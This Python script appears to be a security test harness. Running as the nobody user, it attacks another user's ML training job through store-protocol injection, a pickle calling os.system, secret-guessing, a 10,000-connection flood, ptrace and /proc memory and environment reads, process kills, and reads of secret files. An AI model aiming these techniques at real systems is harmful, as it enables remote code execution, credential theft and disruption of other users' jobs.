"""Attacks a job as another user of the machine. Needs only the standard library: that user can't use the job's Python.

    python3 stranger.py OWNER_UID DIRECTORY [HOST:FIRST-LAST ...]

Becomes `nobody`. Then tries everything below on each port that the owner's processes listen on (found in /proc or in the given
ranges), on each of the owner's processes, and on every file below DIRECTORY. Repeats until a file DIRECTORY/stop appears or five
minutes are over. Prints one JSON object: for each attempt the number of tries, and the result if there was any.
"""
# ruff: noqa: SIM115  (it holds what it opened, and is soon over)

import ctypes
import encodings.idna  # noqa: F401  (sockets look it up, and the library may be out of reach of nobody)
import glob
import hashlib
import hmac
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import time

NOBODY = 65534
SECONDS = 300
CONNECTIONS = 10000
MAGIC = b"hpctrain store 1\n"
GREETING = len(MAGIC) + 32 + 2
STORE_KEY = b"/hpctrain/job"
JOB = b'{"value": {"tables": {"model": {"name": "os:system"}}}}'
PICKLE = b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."

made: dict = {}
got: dict = {}


def tcpstore(query, *parts):
    """A request to torch's TCPStore, after the magic number of its handshake."""
    return struct.pack("<BIB", 0, 0x3C85F7CE, query) + b"".join(struct.pack("<Q", len(part)) + part for part in parts)


MESSAGES = {
    "says nothing": b"",
    "one byte": b"x",
    "noise": os.urandom(4096),
    "zeros": bytes(4096),
    "ones, 1 MB": b"\xff" * 2**20,
    "an HTTP request": b"GET /job HTTP/1.1\r\nHost: x\r\n\r\n",
    "a TLS hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32),
    "an SSH banner": b"SSH-2.0-OpenSSH_9.2\r\n",
    "TCPStore: set the job": tcpstore(1, STORE_KEY, JOB),
    "TCPStore: replace the job": tcpstore(2, STORE_KEY, b"", JOB),
    "TCPStore: read the job": tcpstore(3, STORE_KEY),
    "TCPStore: count as a rank": tcpstore(4, b"/hpctrain/leaving", struct.pack("<q", 9)),
    "TCPStore: end the job well": tcpstore(2, b"/hpctrain/failed", b"", b"1 0"),
    "TCPStore: delete the verdict": tcpstore(8, b"/hpctrain/verdict"),
    "a pickle": PICKLE,
    "a pickle with its length": struct.pack("<Q", len(PICKLE)) + PICKLE,
    "a PMI command": b"cmd=init pmi_version=1 pmi_subversion=1\ncmd=abort exitcode=0\n",
    "a PMI value": b"cmd=put kvsname=hpctrain key=PMI_process_mapping value=(vector,(0,1,1))\n",
    "a PMI farewell": b"cmd=finalize\n" * 100,
    "a length of 2 GB": struct.pack(">I", 2**31) + b"x" * 100,
    "a length of 2 to the 63": struct.pack("<Q", 2**63) + b"x" * 100,
    "the job as a line of JSON": JOB + b"\n",
    "an HTTP request with the job": b"POST /hpctrain/job HTTP/1.1\r\nContent-Length: 60\r\n\r\n" + JOB,
    "a request to a proxy": b"CONNECT localhost:22 HTTP/1.1\r\n\r\n",
    "a Redis command": b"*3\r\n$3\r\nSET\r\n$3\r\njob\r\n$1\r\nx\r\n",
    "half of the store's greeting": MAGIC[:9],
    "the store's greeting, 1,000 times": (MAGIC + bytes(34)) * 1000,
    "the store's own greeting": MAGIC + os.urandom(34),
    "a proof of zeros": bytes(64),
    "a message without a proof": bytes(64) + struct.pack(">I", 2**31) + b"set",
}


def note(name, found=None):
    made[name] = made.get(name, 0) + 1
    if found:
        got.setdefault(name, str(found)[:200])


def connect(address):
    one = socket.create_connection(address, 1)
    one.settimeout(0.1)
    return one


def read(one, count):
    data = b""
    while len(data) < count:
        chunk = one.recv(count - len(data))
        if not chunk:
            break
        data += chunk
    return data


def knock(address, held):
    """Send each message on its own connection; keep some connections open."""
    for name, message in MESSAGES.items():
        try:
            one = connect(address)
            one.sendall(message)
            held.append(one)
        except OSError:
            pass
        note(name)


def greeted(address):
    """A connection to a store, its nonce and its introduction."""
    one = connect(address)
    greeting = read(one, GREETING)
    introduction = read(one, int.from_bytes(greeting[-2:], "big")) if len(greeting) == GREETING else b""
    return one, greeting[len(MAGIC) : len(MAGIC) + 32], introduction


def take_a_place(address, held):
    """Speak the store's protocol with guessable secrets."""
    for name, secret in {"no secret": b"", "a secret of zeros": bytes(32), "the greeting as the secret": None}.items():
        try:
            one, nonce, introduction = greeted(address)
            mine = os.urandom(32)
            parts = (b"client", nonce + mine, introduction)
            packed = b"".join(struct.pack(">I", len(part)) + part for part in parts)
            one.sendall(mine + hmac.new(nonce if secret is None else secret, packed, hashlib.sha256).digest())
            note("proves with " + name, read(one, 32))
        except OSError:
            note("proves with " + name)
    try:
        one, nonce, introduction = greeted(address)
        held.append(greeted(address)[0])
        one.sendall(nonce + nonce)
        note("sends the server's nonce back", read(one, 32))
        if introduction:
            opened = subprocess.run(
                ["unmunge", "--metadata=/dev/null"], input=introduction, capture_output=True, timeout=5
            )
            note("opens the MUNGE credential", opened.stdout)
    except OSError:
        note("sends the server's nonce back")


def flood(address, count):
    held = []
    for _ in range(count):
        try:
            one = socket.socket()
            one.setblocking(False)
            one.connect_ex(address)
            held.append(one)
        except OSError:
            break
    note(f"{count} connections at once")
    for one in held:
        one.close()


def listening(uid):
    """The addresses that processes of `uid` listen on. Skips ports on all addresses, such as torchrun's store, which trusts
    everyone, unless STRANGER_KNOCKS_EVERYWHERE=1.
    """
    everywhere, found = "STRANGER_KNOCKS_EVERYWHERE" in os.environ, []
    for table in ("tcp", "tcp6") if everywhere else ("tcp",):
        for line in open("/proc/net/" + table).read().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and int(fields[7]) == uid:
                host, port = fields[1].split(":")
                if len(host) == 8 and int(host, 16):
                    found.append((socket.inet_ntoa(struct.pack("<I", int(host, 16))), int(port, 16)))
                elif everywhere:
                    found.append(("127.0.0.1", int(port, 16)))
    return found


def in_ranges(ranges):
    """The open ports of HOST:FIRST-LAST."""
    found = []
    for text in ranges:
        host, ports = text.split(":")
        first, last = map(int, ports.split("-"))
        for port in range(first, last):
            one = socket.socket()
            one.settimeout(0.2)
            if one.connect_ex((host, port)) == 0:
                found.append((host, port))
            one.close()
    return found


def attempt(name, action):
    try:
        note(name, action())
    except (OSError, ValueError):
        note(name)


def snoop(process):
    """Try actions on another user's process."""
    libc = ctypes.CDLL(None, use_errno=True)
    attempt("reads a rank's environment", lambda: open(f"/proc/{process}/environ", "rb").read())
    attempt("reads a rank's memory", lambda: open(f"/proc/{process}/mem", "rb"))
    attempt("opens a rank's files", lambda: os.listdir(f"/proc/{process}/fd"))
    attempt("opens a node's shared memory", lambda: [open(p, "r+b") for p in glob.glob(f"/proc/{process}/fd/*")])
    attempt("attaches a debugger", lambda: libc.ptrace(16, process, 0, 0) == 0)
    buffer = ctypes.create_string_buffer(8)
    pair = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    attempt("copies a rank's memory", lambda: libc.process_vm_readv(process, pair, 1, pair, 1, 0) > 0)
    attempt("ends a rank", lambda: os.kill(process, signal.SIGTERM) is None and "sent")
    attempt("asks a rank to save", lambda: os.kill(process, signal.SIGUSR1) is None and "sent")
    attempt("limits a rank's memory", lambda: resource.prlimit(process, resource.RLIMIT_AS, (0, 0)) and "set")


def rummage(directory, home):
    """Try the run's files, the starter's directory, the secret and shared memory."""
    out = os.path.join(directory, "out")
    for name in ("metrics.jsonl", "job.resolved.toml", "lock", "log/rank-00000.log", "checkpoints/latest"):
        path = os.path.join(out, name)
        attempt("reads " + name, lambda path=path: open(path, "rb").read())
        attempt("writes " + name, lambda path=path: open(path, "ab"))
    attempt("lists the run", lambda: os.listdir(out))
    attempt("adds a file to the run", lambda: open(os.path.join(out, "extra"), "w"))
    attempt("exchanges the run", lambda: os.rename(out, out + ".mine") is None and "renamed")
    attempt("lists the secrets", lambda: os.listdir(os.path.join(home, ".hpctrain")))
    attempt("reads a secret", lambda: [open(p).read() for p in glob.glob(os.path.join(home, ".hpctrain", "*"))])
    for starter in glob.glob("/tmp/hpctrain-*"):
        attempt("lists the starter's directory", lambda starter=starter: os.listdir(starter))
        attempt("tells the starter an exit code", lambda starter=starter: open(starter + "/exit-code", "w"))
        attempt("reads the starter's secret", lambda starter=starter: open(starter + "/secret").read())
    attempt(
        "opens /dev/shm", lambda: [p for p in glob.glob("/dev/shm/*") if os.stat(p).st_uid != NOBODY and open(p, "r+b")]
    )


def processes_of(uid, words=("hpctrain",)):
    found = []
    for entry in glob.glob("/proc/[0-9]*"):
        try:
            line = open(entry + "/cmdline", "rb").read()
            if os.stat(entry).st_uid == uid and all(word.encode() in line for word in words):
                found.append(int(os.path.basename(entry)))
        except OSError:
            continue
    return found


def main():
    owner, directory, ranges = int(sys.argv[1]), sys.argv[2], sys.argv[3:]
    home = os.environ.get("STRANGER_HOME", "/root")
    resource.setrlimit(resource.RLIMIT_NOFILE, (CONNECTIONS + 2000,) * 2)
    os.nice(19)  # it should attack, not take the processors
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    before = set(listening(owner))
    print("ready", flush=True)
    visits, held, flooded = {}, [], False
    end = time.monotonic() + SECONDS
    while time.monotonic() < end and os.path.isdir(directory) and not os.path.exists(os.path.join(directory, "stop")):
        time.sleep(0.01)
        for address in in_ranges(ranges) if ranges else listening(owner):
            if address in before or visits.get(address, 0) >= 4:
                continue
            visits[address] = visits.get(address, 0) + 1
            knock(address, held)
            take_a_place(address, held)
            if visits[address] == 2 and not flooded:
                flooded = True
                flood(address, CONNECTIONS)
            held = held[-400:]
        for process in processes_of(owner):
            snoop(process)
        rummage(directory, home)
    print(json.dumps({"made": made, "got": got, "addresses": [f"{h}:{p}" for h, p in visits]}))


main()
